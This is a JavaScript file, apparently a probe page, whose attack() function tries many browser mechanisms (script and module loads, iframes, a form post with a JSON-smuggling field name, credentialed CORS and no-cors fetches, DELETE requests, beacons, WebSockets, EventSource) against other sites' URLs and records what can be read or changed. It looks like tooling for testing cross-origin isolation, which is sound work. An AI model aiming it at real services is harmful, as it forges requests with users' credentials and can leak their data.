// A page that tries every way that a browser has to read an address of another site, or to change
// something there. attack(urls) gives what came of it: [way, url, what was read], [] for nothing.
const LONG_MS = 30000;

const tag = (name, attributes) =>
  new Promise((done) => {
    const element = document.createElement(name);
    const end = (read) => {
      element.remove();
      done(read);
    };
    element.onload = () => end(element);
    element.onerror = () => end(null);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
  });

const loads = (name, url, more = {}) => tag(name, { src: url, ...more }).then((it) => it && "loaded");

const media = (name, url) =>
  new Promise((done) => {
    const element = document.createElement(name);
    element.onloadedmetadata = () => done("metadata");
    element.onerror = () => done(null);
    element.src = url;
  });

// A frame loads in any case: what counts is whether its document can be read.
const framed = (name, url) =>
  new Promise((done) => {
    const element = document.createElement(name);
    const end = () => {
      let text = null;
      try {
        text = element.contentDocument?.documentElement?.textContent;
      } catch {}
      element.remove();
      done(text || null);
    };
    element.onload = end;
    element.onerror = end;
    element[name === "object" ? "data" : "src"] = url;
    document.body.append(element);
  });

const posted = (url) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `f${Math.random()}`;
    const form = document.createElement("form");
    Object.assign(form, { action: url, method: "post", target: frame.name });
    const field = document.createElement("input");
    Object.assign(field, { name: '{"run":"hostile","x":"', value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => {
      frame.remove();
      form.remove();
      done(null);
    };
    form.submit();
  });

const fetched = (url, options) =>
  fetch(url, { credentials: "include", ...options })
    .then((answer) => answer.text())
    .then((text) => text || null)
    .catch(() => null);

const body = JSON.stringify({ run: "hostile" });
const json = { "content-type": "application/json" };

const WAYS = {
  script: (url) => loads("script", url),
  module: (url) => loads("script", url, { type: "module" }),
  import: (url) => import(url).then(() => "imported").catch(() => null),
  img: (url) => loads("img", url),
  style: (url) => tag("link", { rel: "stylesheet", href: url }).then((it) => it && "sheet"),
  preload: (url) => tag("link", { rel: "preload", as: "fetch", href: url }).then(() => null),
  prefetch: (url) => tag("link", { rel: "prefetch", href: url }).then(() => null),
  video: (url) => media("video", url),
  font: (url) => new FontFace("f", `url("${url}")`).load().then(() => "font").catch(() => null),
  iframe: (url) => framed("iframe", url),
  object: (url) => framed("object", url),
  "form post": (url) => posted(url),
  cors: (url) => fetched(url, {}),
  "cors head": (url) => fetch(url, { method: "HEAD" }).then((it) => (it.ok ? "seen" : null), () => null),
  "cors post": (url) => fetched(url, { method: "POST", body }),
  "cors json": (url) => fetched(url, { method: "POST", body, headers: json }),
  "cors delete": (url) => fetched(url, { method: "DELETE" }),
  "no-cors": (url) => fetched(url, { mode: "no-cors" }),
  "no-cors post": (url) => fetched(url, { mode: "no-cors", method: "POST", body }),
  beacon: async (url) => (navigator.sendBeacon(url, body), null),
  websocket: (url) =>
    new Promise((done) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onopen = () => (socket.close(), done("opened"));
      socket.onerror = () => done(null);
    }),
  events: (url) =>
    new Promise((done) => {
      const stream = new EventSource(url, { withCredentials: true });
      stream.onopen = () => (stream.close(), done("opened"));
      stream.onerror = () => (stream.close(), done(null));
    }),
};

const inTime = (work) =>
  Promise.race([work, new Promise((done) => setTimeout(() => done("no end"), LONG_MS))]);

// Ten addresses at a time; sockets all at once, since the browser lets each wait for seconds.
async function attack(urls, ways = Object.keys(WAYS)) {
  const found = [];
  const attempt = async (way, url) => {
    const read = await inTime(WAYS[way](url));
    if (read !== null) found.push([way, url, read]);
  };
  const sockets = ways.includes("websocket") ? urls.map((url) => attempt("websocket", url)) : [];
  const others = ways.filter((way) => way !== "websocket");
  for (let first = 0; first < urls.length; first += 10) {
    const some = urls.slice(first, first + 10);
    await Promise.all(some.flatMap((url) => others.map((way) => attempt(way, url))));
  }
  await Promise.all(sockets);
  return window.leaked ? [...found, ["script", "", "it ran"]] : found;
}
